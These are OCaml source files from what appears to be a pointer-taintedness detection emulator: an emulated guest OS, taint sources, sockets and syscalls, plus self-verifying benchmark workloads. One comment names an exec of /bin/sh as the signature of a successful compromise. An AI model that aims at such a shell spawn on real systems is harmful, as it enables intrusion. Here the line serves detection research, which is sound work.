let session_active t = t.active
let pending_sessions t = List.length t.pending
