open Ptaint_isa
open Ptaint_cpu

exception Guest_fault of { sysnum : int; pc : int; args : int list }

let guest_fault_message ~sysnum ~pc ~args =
  Printf.sprintf "guest fault: syscall %s at pc 0x%08x with args [%s]" (Sysnum.name sysnum) pc
    (String.concat "; " (List.map (Printf.sprintf "0x%08x") args))

let () =
  Printexc.register_printer (function
    | Guest_fault { sysnum; pc; args } -> Some (guest_fault_message ~sysnum ~pc ~args)
    | _ -> None)

type fd_kind =
  | Closed
  | Stdin
  | Stdout
  | Stderr
  | File_read of { path : string; mutable pos : int }
  | File_write of { path : string }
  | Listen_sock
  | Conn_sock

type t = {
  mem : Ptaint_mem.Memory.t;
  filesystem : Fs.t;
  network : Socket.t;
  fds : fd_kind array;
  sources : Sources.t;
  mutable current_uid : int;
  mutable brk : int;
  heap_limit : int;
  stdout_buf : Buffer.t;
  stdin_data : string;
  mutable stdin_pos : int;
  mutable execs_rev : string list;
  mutable input_byte_count : int;
  mutable syscalls : int;
  trace : Ptaint_obs.Trace.t option;
  mutable cycle : int;  (* machine icount at the current syscall, for event stamps *)
}

let create ?(sources = Sources.all) ?(fs = Fs.create ()) ?(stdin = "") ?(sessions = [])
    ?(uid = 1000) ?trace ~heap_base ~heap_limit ~mem () =
  let fds = Array.make 64 Closed in
  fds.(0) <- Stdin;
  fds.(1) <- Stdout;
  fds.(2) <- Stderr;
  { mem;
    filesystem = fs;
    network = Socket.create ~sessions;
    fds;
    sources;
    current_uid = uid;
    brk = heap_base;
    heap_limit;
    stdout_buf = Buffer.create 256;
    stdin_data = stdin;
    stdin_pos = 0;
    execs_rev = [];
    input_byte_count = 0;
    syscalls = 0;
    trace;
    cycle = 0 }

let stdout_contents t = Buffer.contents t.stdout_buf
let net t = t.network
let fs t = t.filesystem
let uid t = t.current_uid
let execs t = List.rev t.execs_rev
let input_bytes t = t.input_byte_count
let syscall_count t = t.syscalls

let alloc_fd t kind =
  let rec go i =
    if i >= Array.length t.fds then -1
    else if t.fds.(i) = Closed then begin
      t.fds.(i) <- kind;
      i
    end
    else go (i + 1)
  in
  go 3

let fd_kind t fd = if fd < 0 || fd >= Array.length t.fds then Closed else t.fds.(fd)

(* Deliver [data] into the guest buffer, marking each byte tainted per
   the source policy, and account it as external input.  [source]
   names the delivering syscall for the taint-introduction event — the
   provenance anchor of every incident narrative. *)
let deliver t ~buf ~data ~taint ~source =
  Ptaint_mem.Memory.write_string t.mem buf data ~taint;
  let len = String.length data in
  (match t.trace with
   | Some tr when taint && len > 0 ->
     Ptaint_obs.Trace.emit tr
       (Ptaint_obs.Event.Taint_in
          { cycle = t.cycle; source; addr = buf; len; offset = t.input_byte_count })
   | _ -> ());
  t.input_byte_count <- t.input_byte_count + len;
  len

let do_read t ~fd ~buf ~len =
  match fd_kind t fd with
  | Stdin ->
    let available = String.length t.stdin_data - t.stdin_pos in
    let n = min len available in
    let data = String.sub t.stdin_data t.stdin_pos n in
    t.stdin_pos <- t.stdin_pos + n;
    deliver t ~buf ~data ~taint:t.sources.stdin ~source:"read(stdin)"
  | File_read f -> (
    match Fs.read t.filesystem ~path:f.path with
    | None -> -1
    | Some content ->
      let available = String.length content - f.pos in
      let n = max 0 (min len available) in
      let data = String.sub content f.pos n in
      f.pos <- f.pos + n;
      deliver t ~buf ~data ~taint:t.sources.file ~source:("read(" ^ f.path ^ ")"))
  | Conn_sock ->
    let data = Socket.recv t.network ~max:len in
    deliver t ~buf ~data ~taint:t.sources.network ~source:"recv(network)"
  | Closed | Stdout | Stderr | File_write _ | Listen_sock -> -1

let do_write t ~fd ~buf ~len =
  let data = Ptaint_mem.Memory.read_string t.mem buf len in
  match fd_kind t fd with
  | Stdout | Stderr ->
    Buffer.add_string t.stdout_buf data;
    len
  | File_write f ->
    Fs.append t.filesystem ~path:f.path data;
    len
  | Conn_sock ->
    Socket.send t.network data;
    len
  | Closed | Stdin | File_read _ | Listen_sock -> -1

let do_open t ~path ~flags =
  if flags land 1 <> 0 then begin
    Fs.truncate t.filesystem ~path;
    alloc_fd t (File_write { path })
  end
  else if Fs.exists t.filesystem ~path then alloc_fd t (File_read { path; pos = 0 })
  else -1

let do_sbrk t ~incr ~mem =
  let old = t.brk in
  if incr <= 0 then old
  else if t.brk + incr > t.heap_limit then -1
  else begin
    Ptaint_mem.Memory.map_range mem ~lo:t.brk ~bytes:incr;
    t.brk <- t.brk + incr;
    old
  end

let handle t (m : Machine.t) =
  t.syscalls <- t.syscalls + 1;
  let regs = m.Machine.regs in
  let arg r = Regfile.value regs r in
  let num = arg Reg.v0 in
  (match t.trace with
   | Some tr ->
     t.cycle <- m.Machine.icount;
     Ptaint_obs.Trace.emit tr
       (Ptaint_obs.Event.Syscall
          { cycle = m.Machine.icount; pc = m.Machine.pc; name = Sysnum.name num })
   | None -> ());
  let a0 = arg Reg.a0 and a1 = arg Reg.a1 and a2 = arg Reg.a2 in
  let return v =
    Regfile.set regs Reg.v0 (Ptaint_taint.Tword.untainted (Word.of_signed v));
    `Continue
  in
  let with_fault f = try f () with Ptaint_mem.Memory.Fault _ -> return (-1) in
  (* Structured guest fault: an unknown syscall number or a malformed
     argument (negative transfer length) is the guest operating
     outside the ABI — raise a typed fault carrying the full syscall
     context instead of a bare [Failure], so the campaign runtime can
     classify it without string matching. *)
  let guest_fault () = raise (Guest_fault { sysnum = num; pc = m.Machine.pc; args = [ a0; a1; a2 ] }) in
  let checked_len () = if Word.to_signed a2 < 0 then guest_fault () in
  if num = Sysnum.sys_exit then `Exit (Word.to_signed a0)
  else if num = Sysnum.sys_read then begin
    checked_len ();
    with_fault (fun () -> return (do_read t ~fd:a0 ~buf:a1 ~len:a2))
  end
  else if num = Sysnum.sys_write then begin
    checked_len ();
    with_fault (fun () -> return (do_write t ~fd:a0 ~buf:a1 ~len:a2))
  end
  else if num = Sysnum.sys_open then
    with_fault (fun () ->
        return (do_open t ~path:(Ptaint_mem.Memory.read_cstring t.mem a0) ~flags:a1))
  else if num = Sysnum.sys_close then begin
    if a0 >= 3 && a0 < Array.length t.fds then t.fds.(a0) <- Closed;
    return 0
  end
  else if num = Sysnum.sys_sbrk then return (do_sbrk t ~incr:(Word.to_signed a0) ~mem:t.mem)
  else if num = Sysnum.sys_recv then begin
    checked_len ();
    with_fault (fun () -> return (do_read t ~fd:a0 ~buf:a1 ~len:a2))
  end
  else if num = Sysnum.sys_send then begin
    checked_len ();
    with_fault (fun () -> return (do_write t ~fd:a0 ~buf:a1 ~len:a2))
  end
  else if num = Sysnum.sys_socket then return (alloc_fd t Listen_sock)
  else if num = Sysnum.sys_accept then
    (match fd_kind t a0 with
     | Listen_sock -> if Socket.accept t.network then return (alloc_fd t Conn_sock) else return (-1)
     | _ -> return (-1))
  else if num = Sysnum.sys_getuid then return t.current_uid
  else if num = Sysnum.sys_setuid then begin
    t.current_uid <- Word.to_signed a0;
    return 0
  end
  else if num = Sysnum.sys_exec then
    with_fault (fun () ->
        t.execs_rev <- Ptaint_mem.Memory.read_cstring t.mem a0 :: t.execs_rev;
        return 0)
  else if num = Sysnum.sys_time then return (m.Machine.icount / 1000)
  else if num = Sysnum.sys_getpid then return 42
  else if num = Sysnum.sys_guard then begin
    Machine.add_guard m ~addr:a0 ~len:a1;
    return 0
  end
  else if num = Sysnum.sys_unguard then begin
    Machine.remove_guard m ~addr:a0;
    return 0
  end
  else guest_fault ()
