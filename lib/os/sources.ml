type t = { network : bool; file : bool; stdin : bool; args : bool; env : bool }

let all = { network = true; file = true; stdin = true; args = true; env = true }
let none = { network = false; file = false; stdin = false; args = false; env = false }
let network_only = { none with network = true }
