(** In-memory guest filesystem. *)

type t

val create : unit -> t
val add : t -> path:string -> string -> unit
val read : t -> path:string -> string option
val exists : t -> path:string -> bool
val remove : t -> path:string -> unit
val append : t -> path:string -> string -> unit
(** Creates the file if missing. *)

val truncate : t -> path:string -> unit
val paths : t -> string list
