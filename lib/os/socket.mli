(** Scripted network endpoint.

    Experiments drive servers by providing {e sessions}: each session
    is the sequence of messages one client connection delivers.
    [accept] consumes the next pending session; [recv] yields bytes of
    the current session's messages in order (one message per call at
    most, like TCP segment arrival) and returns ["" ] at end of
    session; [send] records the server's outbound traffic. *)

type t

val create : sessions:string list list -> t
val accept : t -> bool
(** Begin the next session; false when no sessions remain. *)

val recv : t -> max:int -> string
val send : t -> string -> unit
val sent : t -> string list
(** All outbound messages, in order. *)

val session_active : t -> bool
val pending_sessions : t -> int
