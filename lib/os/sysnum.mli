(** Syscall numbers (passed in [$v0], arguments in [$a0..$a2]). *)

val sys_exit : int
val sys_read : int
val sys_write : int
val sys_open : int
val sys_close : int
val sys_sbrk : int
val sys_recv : int
val sys_send : int
val sys_socket : int
val sys_accept : int
val sys_getuid : int
val sys_setuid : int
val sys_exec : int
val sys_time : int
val sys_getpid : int
val sys_guard : int
(** Annotate [len] bytes at [addr] as never-tainted (section 5.3
    extension); tainted writes into the range alert. *)

val sys_unguard : int
val name : int -> string
