(** Emulated operating system.

    Implements the syscall surface the guest C library is built on and
    performs {e taintedness initialisation} exactly as in section 4.4:
    every byte delivered to user space by [SYS_READ] (local I/O,
    keyboard, files) or [SYS_RECV] (network) is marked tainted,
    subject to the {!Sources.t} policy. *)

type t

exception Guest_fault of { sysnum : int; pc : int; args : int list }
(** Raised by {!handle} when the guest requests an unknown syscall
    number or passes malformed arguments (e.g. a negative transfer
    length): the guest has left the ABI, and the kernel reports the
    full syscall context ([$v0], [pc], [$a0..$a2]) as a structured
    fault instead of a stringly [Failure].  The campaign runtime
    classifies it as [Guest_fault]. *)

val create :
  ?sources:Sources.t ->
  ?fs:Fs.t ->
  ?stdin:string ->
  ?sessions:string list list ->
  ?uid:int ->
  ?trace:Ptaint_obs.Trace.t ->
  heap_base:int ->
  heap_limit:int ->
  mem:Ptaint_mem.Memory.t ->
  unit ->
  t
(** With [trace], the kernel emits a {!Ptaint_obs.Event.Syscall} event
    for every serviced syscall and a {!Ptaint_obs.Event.Taint_in}
    event for every delivery of tainted bytes to user space, recording
    the source syscall, destination range and input-stream offset —
    the provenance anchors for incident reports. *)

val handle : t -> Ptaint_cpu.Machine.t -> [ `Continue | `Exit of int ]
(** Service the syscall currently requested by the machine (number in
    [$v0]); writes the result to [$v0]. *)

(** {1 Observation points for experiments} *)

val stdout_contents : t -> string
val net : t -> Socket.t
val fs : t -> Fs.t
val uid : t -> int
val execs : t -> string list
(** Paths passed to [SYS_EXEC], in order — a recorded
    [exec "/bin/sh"] is the signature of a successful compromise. *)

val input_bytes : t -> int
(** Total bytes delivered from external sources (Table 3 column). *)

val syscall_count : t -> int
