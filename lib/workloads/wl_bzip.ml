(* "BZIP2": block compressor — Burrows-Wheeler transform +
   move-to-front + run-length coding, with in-guest decompression and
   verification.  Exercises the idioms bzip2 does: block sorting with
   data-dependent comparisons, table-driven transforms, byte
   shuffling of tainted input. *)

let source =
  {|
char block[256];
char last_col[256];
int rot[256];
char mtf_alpha[256];
char coded[256];
char rle[600];
char decoded_rle[256];
char decoded_mtf[256];
char recovered[256];
int counts[256];
int starts[256];
int tvec[256];

/* compare rotations a and b of block[0..n-1] cyclically */
int rot_cmp(int a, int b, int n) {
  int i;
  for (i = 0; i < n; i++) {
    int ca = block[(a + i) % n];
    int cb = block[(b + i) % n];
    if (ca != cb) return ca - cb;
  }
  return 0;
}

/* returns the primary index */
int bwt_encode(int n) {
  int i;
  for (i = 0; i < n; i++) rot[i] = i;
  /* insertion sort of rotation start indices */
  for (i = 1; i < n; i++) {
    int v = rot[i];
    int j = i - 1;
    while (j >= 0 && rot_cmp(rot[j], v, n) > 0) {
      rot[j + 1] = rot[j];
      j--;
    }
    rot[j + 1] = v;
  }
  int primary = -1;
  for (i = 0; i < n; i++) {
    last_col[i] = block[(rot[i] + n - 1) % n];
    if (rot[i] == 0) primary = i;
  }
  return primary;
}

void bwt_decode(int n, int primary) {
  int i;
  for (i = 0; i < 256; i++) counts[i] = 0;
  for (i = 0; i < n; i++) {
    int c = last_col[i];
    if (c < 0 || c > 255) return;   /* range check before indexing */
    counts[c]++;
  }
  int total = 0;
  for (i = 0; i < 256; i++) {
    starts[i] = total;
    total += counts[i];
  }
  for (i = 0; i < 256; i++) counts[i] = 0;
  for (i = 0; i < n; i++) {
    int c = last_col[i];
    if (c < 0 || c > 255) return;
    tvec[starts[c] + counts[c]] = i;
    counts[c]++;
  }
  int p = tvec[primary];
  for (i = 0; i < n; i++) {
    recovered[i] = last_col[p];
    p = tvec[p];
  }
}

void mtf_init(void) {
  int i;
  for (i = 0; i < 256; i++) mtf_alpha[i] = i;
}

void mtf_encode(int n) {
  mtf_init();
  int i;
  for (i = 0; i < n; i++) {
    int c = last_col[i];
    int j = 0;
    while (mtf_alpha[j] != c) j++;
    coded[i] = j;
    while (j > 0) {
      mtf_alpha[j] = mtf_alpha[j - 1];
      j--;
    }
    mtf_alpha[0] = c;
  }
}

void mtf_decode(int n) {
  mtf_init();
  int i;
  for (i = 0; i < n; i++) {
    int j = decoded_rle[i];
    int c = mtf_alpha[j];
    decoded_mtf[i] = c;
    while (j > 0) {
      mtf_alpha[j] = mtf_alpha[j - 1];
      j--;
    }
    mtf_alpha[0] = c;
  }
}

/* run-length code the MTF stream: (count, byte) pairs */
int rle_encode(int n) {
  int out = 0;
  int i = 0;
  while (i < n) {
    int c = coded[i];
    int run = 1;
    while (i + run < n && coded[i + run] == c && run < 255) run++;
    rle[out] = run;
    rle[out + 1] = c;
    out += 2;
    i += run;
  }
  return out;
}

int rle_decode(int m) {
  int out = 0;
  int i = 0;
  while (i < m) {
    int run = rle[i];
    int c = rle[i + 1];
    int k;
    for (k = 0; k < run; k++) {
      decoded_rle[out] = c;
      out++;
    }
    i += 2;
  }
  return out;
}

int main(void) {
  int total_in = 0;
  int total_out = 0;
  int blocks = 0;
  int n;
  while ((n = read(0, block, 96)) > 0) {
    int primary = bwt_encode(n);
    mtf_encode(n);
    int m = rle_encode(n);
    /* decompress and verify */
    int r = rle_decode(m);
    if (r != n) {
      puts("RLE LENGTH MISMATCH");
      return 1;
    }
    mtf_decode(n);
    int i;
    for (i = 0; i < n; i++) last_col[i] = decoded_mtf[i];
    bwt_decode(n, primary);
    for (i = 0; i < n; i++) {
      if (recovered[i] != block[i]) {
        printf("VERIFY FAILED at block %d offset %d\n", blocks, i);
        return 1;
      }
    }
    total_in += n;
    total_out += m + 4;
    blocks++;
  }
  printf("bzip: %d blocks, %d bytes in, %d bytes coded, verify OK\n",
         blocks, total_in, total_out);
  return 0;
}
|}

(* Deterministic pseudo-text input: compressible but nontrivial. *)
let input ?(bytes = 1152) () =
  let state = ref 123456789 in
  let rand () =
    state := ((!state * 1103515245) + 12345) land 0x3FFFFFFF;
    !state lsr 16
  in
  let words = [| "the"; "quick"; "brown"; "fox"; "jumps"; "over"; "lazy"; "dog";
                 "pack"; "my"; "box"; "with"; "five"; "dozen"; "liquor"; "jugs" |] in
  let buf = Buffer.create bytes in
  while Buffer.length buf < bytes do
    Buffer.add_string buf words.(rand () mod Array.length words);
    Buffer.add_char buf (if rand () mod 13 = 0 then '\n' else ' ')
  done;
  Buffer.sub buf 0 bytes
