(* "VPR": FPGA place-and-route flavour — reads a netlist, places cells
   on a grid, then improves the placement by simulated annealing with
   random pairwise swaps.  Exercises VPR's idioms: cost evaluation
   over a netlist, randomised perturbation, monotone convergence
   bookkeeping. *)

let source =
  {|
char buf[8000];
int buflen = 0;
int rpos = 0;

int cell_x[200];
int cell_y[200];
int net_a[600];
int net_b[600];
int grid = 16;

int read_int(void) {
  while (rpos < buflen) {
    char c = buf[rpos];
    if (c >= '0' && c <= '9') break;
    rpos++;
  }
  int v = 0;
  int any = 0;
  while (rpos < buflen) {
    char c = buf[rpos];
    if (c < '0' || c > '9') break;
    v = v * 10 + (c - '0');
    any = 1;
    rpos++;
  }
  if (!any) return -1;
  return v;
}

int net_cost(int i) {
  int a = net_a[i];
  int b = net_b[i];
  return abs(cell_x[a] - cell_x[b]) + abs(cell_y[a] - cell_y[b]);
}

int total_cost(int nnets) {
  int c = 0;
  int i;
  for (i = 0; i < nnets; i++) c += net_cost(i);
  return c;
}

/* incidence lists so swap deltas are evaluated incrementally, as the
   real VPR does */
int incident[200][16];
int nincident[200];

void build_incidence(int nnets) {
  int i;
  for (i = 0; i < 200; i++) nincident[i] = 0;
  for (i = 0; i < nnets; i++) {
    int a = net_a[i];
    int b = net_b[i];
    if (nincident[a] < 16) {
      incident[a][nincident[a]] = i;
      nincident[a]++;
    }
    if (b != a && nincident[b] < 16) {
      incident[b][nincident[b]] = i;
      nincident[b]++;
    }
  }
}

int local_cost(int cell) {
  int c = 0;
  int k;
  for (k = 0; k < nincident[cell]; k++) c += net_cost(incident[cell][k]);
  return c;
}

int main(void) {
  int r;
  while (buflen < 7400 && (r = read(0, buf + buflen, 512)) > 0) buflen += r;
  int ncells = read_int();
  int nnets = read_int();
  if (ncells <= 1 || ncells > 200 || nnets <= 0 || nnets > 600) {
    puts("BAD NETLIST");
    return 1;
  }
  int i;
  for (i = 0; i < nnets; i++) {
    int a = read_int();
    int b = read_int();
    if (a < 0 || a >= ncells || b < 0 || b >= ncells) {
      puts("BAD NET");
      return 1;
    }
    net_a[i] = a;
    net_b[i] = b;
  }
  /* initial placement: row major */
  for (i = 0; i < ncells; i++) {
    cell_x[i] = i % grid;
    cell_y[i] = i / grid;
  }
  build_incidence(nnets);
  int before = total_cost(nnets);
  /* annealing: accept improving swaps, and worsening ones while hot;
     deltas come from the incidence lists (nets shared by both cells
     contribute equally before and after, so the double count cancels) */
  srand(42);
  int temperature = 100;
  int sweep;
  int cost = before;
  for (sweep = 0; sweep < 15; sweep++) {
    int trial;
    for (trial = 0; trial < 200; trial++) {
      int a = rand() % ncells;
      int b = rand() % ncells;
      if (a == b) continue;
      int old_local = local_cost(a) + local_cost(b);
      int tx = cell_x[a]; int ty = cell_y[a];
      cell_x[a] = cell_x[b]; cell_y[a] = cell_y[b];
      cell_x[b] = tx; cell_y[b] = ty;
      int delta = local_cost(a) + local_cost(b) - old_local;
      if (delta <= 0 || (rand() % 100) < temperature) {
        cost += delta;
      } else {
        /* revert */
        tx = cell_x[a]; ty = cell_y[a];
        cell_x[a] = cell_x[b]; cell_y[a] = cell_y[b];
        cell_x[b] = tx; cell_y[b] = ty;
      }
    }
    temperature = temperature * 4 / 5;
  }
  int after = total_cost(nnets);
  if (after != cost) {
    puts("COST BOOKKEEPING BROKEN");
    return 1;
  }
  if (after > before * 2) {
    puts("ANNEALING DIVERGED");
    return 1;
  }
  printf("vpr: %d cells, %d nets, wirelength %d -> %d\n", ncells, nnets, before, after);
  return 0;
}
|}

let input ?(cells = 150) ?(nets = 450) () =
  let state = ref 13579 in
  let rand n =
    state := ((!state * 1103515245) + 12345) land 0x3FFFFFFF;
    !state lsr 11 mod n
  in
  let buf = Buffer.create 4096 in
  Buffer.add_string buf (Printf.sprintf "%d %d\n" cells nets);
  for _ = 1 to nets do
    (* locality-biased nets, as real netlists have *)
    let a = rand cells in
    let b = (a + 1 + rand 20) mod cells in
    Buffer.add_string buf (Printf.sprintf "%d %d\n" a b)
  done;
  Buffer.contents buf
