(** The SPEC-2000-INT-like guest benchmarks used for the Table 3
    false-positive experiment: six programs with the workload
    character of BZIP2, GCC, GZIP, MCF, PARSER and VPR, each consuming
    tainted external input, self-verifying its computation, and
    expected to run to completion on the protected architecture
    without a single alert. *)

type t = {
  name : string;      (** SPEC counterpart name, e.g. "BZIP2" *)
  description : string;
  source : string;    (** Mini-C *)
  input : unit -> string;
}

val bzip2 : t
val gcc : t
val gzip : t
val mcf : t
val parser : t
val vpr : t
val all : t list

type row = {
  workload : t;
  program_bytes : int;  (** text + data, Table 3 "Program size" *)
  input_bytes : int;    (** Table 3 "Total number of input bytes" *)
  instructions : int;   (** Table 3 "Total number of instructions" *)
  alerts : int;
  outcome : Ptaint_sim.Sim.outcome;
  stdout : string;
}

val run : ?policy:Ptaint_cpu.Policy.t -> ?untaint_writeback:bool -> t -> row
(** Compile (cached), load with the workload input on stdin, run to
    completion, and collect the Table 3 measurements. *)

val program : t -> Ptaint_asm.Program.t
(** The compiled guest (cached; safe to call from concurrent
    domains). *)

val template : t -> Ptaint_sim.Sim.template
(** The loaded image as a copy-on-write snapshot template (cached,
    domain-safe).  {!run} boots from this, so only the first run of a
    workload pays the assemble + load cost; the policy and stdin may
    differ between runs, since only argv/env/sources shape the
    image. *)

val config_for : t -> Ptaint_sim.Sim.config
(** The workload's standard run configuration — its input on stdin,
    its name as argv — under the default policy.  Batch drivers pair
    this with {!program} to submit workloads as campaign jobs. *)

val row_of : t -> Ptaint_asm.Program.t -> Ptaint_sim.Sim.result -> row
(** Collect the Table 3 measurements from an already-run
    simulation. *)
