(* "MCF": network optimisation — single-source shortest paths by
   Bellman-Ford over an edge list read from input, plus a relaxation
   fixpoint check.  Exercises MCF's idioms: pointer-free graph arrays,
   repeated relaxation sweeps, arithmetic on parsed quantities. *)

let source =
  {|
char buf[8000];
int buflen = 0;
int rpos = 0;

int eu[3000];
int ev[3000];
int ew[3000];
int dist[400];

/* parse a non-negative integer from the input buffer */
int read_int(void) {
  while (rpos < buflen) {
    char c = buf[rpos];
    if (c >= '0' && c <= '9') break;
    rpos++;
  }
  int v = 0;
  int any = 0;
  while (rpos < buflen) {
    char c = buf[rpos];
    if (c < '0' || c > '9') break;
    v = v * 10 + (c - '0');
    any = 1;
    rpos++;
  }
  if (!any) return -1;
  return v;
}

int main(void) {
  int r;
  while (buflen < 7400 && (r = read(0, buf + buflen, 512)) > 0) buflen += r;
  int n = read_int();
  int m = read_int();
  if (n <= 0 || n > 400 || m <= 0 || m > 3000) {
    puts("BAD GRAPH");
    return 1;
  }
  int i;
  for (i = 0; i < m; i++) {
    int u = read_int();
    int v = read_int();
    int w = read_int();
    if (u < 0 || u >= n || v < 0 || v >= n || w < 0) {
      puts("BAD EDGE");
      return 1;
    }
    eu[i] = u;
    ev[i] = v;
    ew[i] = w;
  }
  int inf = 0x3FFFFFFF;
  for (i = 0; i < n; i++) dist[i] = inf;
  dist[0] = 0;
  int pass;
  int changed = 1;
  for (pass = 0; pass < n && changed; pass++) {
    changed = 0;
    for (i = 0; i < m; i++) {
      int du = dist[eu[i]];
      if (du < inf && du + ew[i] < dist[ev[i]]) {
        dist[ev[i]] = du + ew[i];
        changed = 1;
      }
    }
  }
  /* fixpoint verification: no edge can still relax */
  for (i = 0; i < m; i++) {
    if (dist[eu[i]] < inf && dist[eu[i]] + ew[i] < dist[ev[i]]) {
      puts("RELAXATION NOT AT FIXPOINT");
      return 1;
    }
  }
  int reach = 0;
  int total = 0;
  for (i = 0; i < n; i++) {
    if (dist[i] < inf) {
      reach++;
      total += dist[i];
    }
  }
  printf("mcf: %d nodes, %d edges, %d reachable, distance sum %d\n", n, m, reach, total);
  return 0;
}
|}

let input ?(nodes = 100) ?(edges = 700) () =
  let state = ref 55555 in
  let rand n =
    state := ((!state * 1103515245) + 12345) land 0x3FFFFFFF;
    !state lsr 5 mod n
  in
  let buf = Buffer.create 4096 in
  Buffer.add_string buf (Printf.sprintf "%d %d\n" nodes edges);
  for i = 0 to edges - 1 do
    (* a connected backbone plus random chords *)
    let u, v =
      if i < nodes - 1 then (i, i + 1) else (rand nodes, rand nodes)
    in
    Buffer.add_string buf (Printf.sprintf "%d %d %d\n" u v (1 + rand 50))
  done;
  Buffer.contents buf
