(* "GCC": a compiler workload — parses assignment/expression source,
   emits code for a small stack VM, runs a constant-folding
   optimisation pass over the instruction stream, then executes both
   versions and checks they agree.  Exercises compiler idioms:
   recursive-descent parsing, instruction buffers, peephole passes. *)

let source =
  {|
char src[6000];
int srclen = 0;
int pos = 0;

/* VM opcodes */
int OP_PUSH = 1;
int OP_LOAD = 2;
int OP_STORE = 3;
int OP_ADD = 4;
int OP_SUB = 5;
int OP_MUL = 6;
int OP_DIV = 7;
int OP_NEG = 8;

int code_op[2000];
int code_arg[2000];
int ncode = 0;

int opt_op[2000];
int opt_arg[2000];
int nopt = 0;

int vars[26];
int stack[64];

void emit(int op, int arg) {
  if (ncode < 2000) {
    code_op[ncode] = op;
    code_arg[ncode] = arg;
    ncode++;
  }
}

void skip_ws(void) {
  while (pos < srclen && (src[pos] == ' ' || src[pos] == '\t')) pos++;
}

int parse_expr(void);

int parse_primary(void) {
  skip_ws();
  if (pos >= srclen) return -1;
  char c = src[pos];
  if (c >= '0' && c <= '9') {
    int v = 0;
    while (pos < srclen) {
      char d = src[pos];
      if (d < '0' || d > '9') break;
      v = v * 10 + (d - '0');
      pos++;
    }
    emit(OP_PUSH, v);
    return 0;
  }
  if (c >= 'a' && c <= 'z') {
    pos++;
    emit(OP_LOAD, c - 'a');
    return 0;
  }
  if (c == '(') {
    pos++;
    if (parse_expr()) return -1;
    skip_ws();
    if (pos >= srclen || src[pos] != ')') return -1;
    pos++;
    return 0;
  }
  if (c == '-') {
    pos++;
    if (parse_primary()) return -1;
    emit(OP_NEG, 0);
    return 0;
  }
  return -1;
}

int parse_term(void) {
  if (parse_primary()) return -1;
  while (1) {
    skip_ws();
    if (pos < srclen && src[pos] == '*') {
      pos++;
      if (parse_primary()) return -1;
      emit(OP_MUL, 0);
    } else if (pos < srclen && src[pos] == '/') {
      pos++;
      if (parse_primary()) return -1;
      emit(OP_DIV, 0);
    } else return 0;
  }
  return 0;
}

int parse_expr(void) {
  if (parse_term()) return -1;
  while (1) {
    skip_ws();
    if (pos < srclen && src[pos] == '+') {
      pos++;
      if (parse_term()) return -1;
      emit(OP_ADD, 0);
    } else if (pos < srclen && src[pos] == '-') {
      pos++;
      if (parse_term()) return -1;
      emit(OP_SUB, 0);
    } else return 0;
  }
  return 0;
}

/* statement: <var> = <expr> \n */
int parse_stmt(void) {
  skip_ws();
  while (pos < srclen && src[pos] == '\n') { pos++; skip_ws(); }
  if (pos >= srclen) return 1;
  char v = src[pos];
  if (v < 'a' || v > 'z') return -1;
  pos++;
  skip_ws();
  if (pos >= srclen || src[pos] != '=') return -1;
  pos++;
  if (parse_expr()) return -1;
  emit(OP_STORE, v - 'a');
  return 0;
}

/* constant folding: PUSH a; PUSH b; <binop>  ->  PUSH (a op b) */
void optimize(void) {
  nopt = 0;
  int i;
  for (i = 0; i < ncode; i++) {
    int op = code_op[i];
    int folded = 0;
    if (nopt >= 2 && opt_op[nopt - 1] == OP_PUSH && opt_op[nopt - 2] == OP_PUSH) {
      int b = opt_arg[nopt - 1];
      int a = opt_arg[nopt - 2];
      int v = 0;
      if (op == OP_ADD) { v = a + b; folded = 1; }
      else if (op == OP_SUB) { v = a - b; folded = 1; }
      else if (op == OP_MUL) { v = a * b; folded = 1; }
      else if (op == OP_DIV && b != 0) { v = a / b; folded = 1; }
      if (folded) {
        nopt--;
        opt_arg[nopt - 1] = v;
      }
    }
    if (!folded) {
      if (nopt >= 1 && op == OP_NEG && opt_op[nopt - 1] == OP_PUSH) {
        opt_arg[nopt - 1] = 0 - opt_arg[nopt - 1];
      } else {
        opt_op[nopt] = op;
        opt_arg[nopt] = code_arg[i];
        nopt++;
      }
    }
  }
}

int execute(int *ops, int *args, int n) {
  int sp = 0;
  int i;
  for (i = 0; i < 26; i++) vars[i] = 0;
  for (i = 0; i < n; i++) {
    int op = ops[i];
    int a = args[i];
    if (op == OP_PUSH) { stack[sp] = a; sp++; }
    else if (op == OP_LOAD) { stack[sp] = vars[a]; sp++; }
    else if (op == OP_STORE) { sp--; vars[a] = stack[sp]; }
    else if (op == OP_NEG) { stack[sp - 1] = 0 - stack[sp - 1]; }
    else {
      sp--;
      int b = stack[sp];
      int x = stack[sp - 1];
      if (op == OP_ADD) stack[sp - 1] = x + b;
      else if (op == OP_SUB) stack[sp - 1] = x - b;
      else if (op == OP_MUL) stack[sp - 1] = x * b;
      else if (op == OP_DIV && b != 0) stack[sp - 1] = x / b;
      else stack[sp - 1] = 0;
    }
    if (sp < 0 || sp > 60) return -1;
  }
  int sum = 0;
  for (i = 0; i < 26; i++) sum += vars[i] * (i + 1);
  return sum;
}

int main(void) {
  int r;
  while (srclen < 5400 && (r = read(0, src + srclen, 512)) > 0) srclen += r;
  int statements = 0;
  while (1) {
    int s = parse_stmt();
    if (s == 1) break;
    if (s == -1) {
      puts("PARSE ERROR");
      return 1;
    }
    statements++;
  }
  int plain = execute(code_op, code_arg, ncode);
  optimize();
  int opt = execute(opt_op, opt_arg, nopt);
  if (plain != opt) {
    printf("MISCOMPILE: %d != %d\n", plain, opt);
    return 1;
  }
  printf("gcc: %d statements, %d ops, %d after folding, checksum %d\n",
         statements, ncode, nopt, plain);
  return 0;
}
|}

(* Deterministic random program text. *)
let input ?(statements = 150) () =
  let state = ref 987654321 in
  let rand n =
    state := ((!state * 1103515245) + 12345) land 0x3FFFFFFF;
    !state lsr 7 mod n
  in
  let buf = Buffer.create 2048 in
  let rec expr depth =
    if depth > 2 || rand 3 = 0 then
      if rand 2 = 0 then Buffer.add_string buf (string_of_int (rand 100))
      else Buffer.add_char buf (Char.chr (Char.code 'a' + rand 26))
    else begin
      Buffer.add_char buf '(';
      expr (depth + 1);
      Buffer.add_char buf [| '+'; '-'; '*' |].(rand 3);
      expr (depth + 1);
      Buffer.add_char buf ')'
    end
  in
  for _ = 1 to statements do
    Buffer.add_char buf (Char.chr (Char.code 'a' + rand 26));
    Buffer.add_char buf '=';
    expr 0;
    Buffer.add_char buf '\n'
  done;
  Buffer.contents buf
