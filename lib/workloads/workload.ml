type t = {
  name : string;
  description : string;
  source : string;
  input : unit -> string;
}

let bzip2 =
  { name = "BZIP2";
    description = "block compressor: Burrows-Wheeler + move-to-front + run-length, self-verifying";
    source = Wl_bzip.source;
